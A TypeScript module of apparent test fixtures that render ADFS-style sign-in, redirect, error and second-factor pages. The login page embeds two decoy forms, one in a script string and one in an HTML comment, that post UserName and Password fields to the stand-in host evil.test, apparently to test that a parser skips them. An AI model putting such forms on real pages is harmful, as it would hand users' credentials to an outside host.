/** Pages as ADFS and its clients serve them: attributes with entities, scripts, fields in any case. */

export function selfPostingForm(action: string, fields: Readonly<Record<string, string>>): string {
  const inputs = Object.entries(fields).map(
    ([name, value]) => `<input type="hidden" name="${entities(name)}" value="${entities(value)}" />`,
  );
  return `<html><head><title>Working...</title></head><body><form method="POST" name="hiddenform" action="${entities(action)}">
${inputs.join('\n')}<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="Submit" /></noscript>
</form><script language="javascript">window.setTimeout('document.forms[0].submit()', 0);</script></body></html>`;
}

export function loginPage(
  action: string,
  options: { errorText: string; hidden: Readonly<Record<string, string>> },
): string {
  const hidden = Object.entries(options.hidden).map(
    ([name, value]) => `<input type="hidden" name="${entities(name)}" value="${entities(value)}"/>`,
  );
  return `<!DOCTYPE html><html lang="en-US"><head><title>Sign In</title>
<script>var markup = '<form method="post" action="https://evil.test/x"><input name="UserName"><input name="Password"></form>';</script>
</head><body><form method="get" action="/adfs/search"><input name="q"></form>
<!-- <form method="post" action="https://evil.test/y"><input name="UserName"><input name="Password"></form> -->
<form method="post" id="loginForm" autocomplete="off" novalidate="novalidate" onsubmit="return Login.submit();" action="${entities(action)}">
<div id="error" class="fieldMargin error smallText"><span id="errorText" for="">${entities(options.errorText)}</span></div>
<input id="userNameInput" name="UserName" type="email" value="" tabindex="1" class="text fullWidth"/>
<input id="passwordInput" name="Password" type="password" tabindex="2" class="text fullWidth"/>
<input type="checkbox" name="Kmsi" id="kmsiInput" value="true" tabindex="3" />
${hidden.join('\n')}<input id="optionForms" type="hidden" name="AuthMethod" value="FormsAuthentication"/>
<span id="submitButton" class="submit">Sign in</span></form></body></html>`;
}

export function errorPage(code: string): string {
  return `<!DOCTYPE html><html><head><title>Error</title></head><body><div id="errorArea"><h1>An error occurred</h1>
<p>Contact your administrator for more information.</p><p>${entities(code)}: see the event log.</p></div></body></html>`;
}

/** A step that needs a person: a second factor. */
export function secondFactorPage(action: string): string {
  return `<html><body><form method="post" id="loginForm" action="${entities(action)}"><input name="VerificationCode" type="text">
<input type="hidden" name="AuthMethod" value="AzureMfaAuthentication"></form></body></html>`;
}

function entities(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/\//g, '&#x2F;');
}
